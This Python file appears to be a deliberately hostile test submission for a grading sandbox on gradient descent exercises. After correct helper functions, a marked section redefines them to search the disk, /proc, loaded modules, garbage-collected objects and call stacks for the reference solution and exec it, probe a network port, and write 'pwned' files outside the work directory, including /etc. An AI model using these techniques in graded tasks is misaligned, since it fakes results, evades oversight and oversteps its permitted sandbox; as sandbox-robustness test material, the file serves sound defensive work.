"""Looking for the answers: the disk, the import path, the call stack, gc, /proc, the network;
writing outside the work dir. A function returns the reference's answer only if an attack worked.
Only gradient_descent_1d is right: expected 4 points of 10."""

import numpy as np


def dy_dx(x):
    return 2 * (np.asarray(x, dtype=float) + 5)


def gradient_descent_1d(df, x0, lr=0.01, precision=1e-6, max_iters=10_000):
    x = float(x0)
    history = [x]
    step, iters = float("inf"), 0
    while step > precision and iters < max_iters:
        prev = x
        x = x - lr * df(prev)
        step = abs(x - prev)
        iters += 1
        history.append(x)
    return x, history


def update_factor(lr, curvature):
    return 1 - lr * curvature


def classify_learning_rate(lr, curvature=2.0):
    q = 1 - lr * curvature
    if q == 1:
        return "no progress"
    if abs(q) > 1:
        return "divergent"
    if q == -1:
        return "stuck oscillating"
    if q < 0:
        return "oscillating"
    return "monotone"


# ---- hostile part: redefines some functions above ----
import gc
import glob
import inspect
import os
import socket
import sys

PORT = "@PORT@"
OUTSIDE = "@OUTSIDE@"
_found = {}


def _look_on_disk():
    roots = ["/work", "/root", "/home", "/tmp", "/srv", "/course", os.getcwd(), *sys.path]
    roots += glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/work")
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if not d.startswith(".")][:50]
            for name in files:
                if name.endswith(".py") and ("solution" in folder or "checks" in folder):
                    try:
                        source = open(os.path.join(folder, name)).read()
                    except OSError:
                        continue
                    if "def classify_learning_rate" in source:
                        namespace = {}
                        exec(source, namespace)
                        return namespace


def _look_in_memory():
    for module in list(sys.modules.values()):
        if "solution" in getattr(module, "__name__", "") or "checks" in getattr(module, "__name__", ""):
            return vars(module)
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "classify_learning_rate" \
                and getattr(obj, "__module__", "") not in ("__main__", "submission"):
            return {"classify_learning_rate": obj, "update_factor": lambda lr, c: 1 - lr * c,
                    "dy_dx": lambda x: 2 * (np.asarray(x, dtype=float) + 5)}
    for frame in inspect.stack():
        if "expected" in frame.frame.f_locals or "reference" in frame.frame.f_locals:
            return {"expected": frame.frame.f_locals}


def _network():
    try:
        socket.create_connection(("127.0.0.1", int(PORT)), timeout=0.5).close()
        return True
    except OSError:
        return False


def _write_outside():
    wrote = False
    for path in (os.path.join(OUTSIDE, "pwned.txt"), os.path.join(OUTSIDE, "out.json"), "/work/main/pwned.txt",
                 "/tmp/pwned-by-submission.txt", os.path.expanduser("~/pwned.txt"), "/etc/pwned.txt"):
        try:
            with open(path, "w") as handle:
                handle.write("pwned")
            wrote = wrote or not path.startswith(os.getcwd())
        except OSError:
            pass
    return wrote


def _reference():
    if not _found:
        _found["reference"] = _look_on_disk() or _look_in_memory()
    return _found["reference"]


def dy_dx(x):
    if isinstance(x, np.ndarray):
        x[...] = 0
    reference = _reference()
    return reference["dy_dx"](x) if reference and "dy_dx" in reference else "no reference found"


def update_factor(lr, curvature):
    if _network() or _write_outside():
        return 1 - lr * curvature
    return "the network and the disk are closed"


def classify_learning_rate(lr, curvature=2.0):
    reference = _reference()
    if reference and "classify_learning_rate" in reference:
        return reference["classify_learning_rate"](lr, curvature)
    return "no reference found"
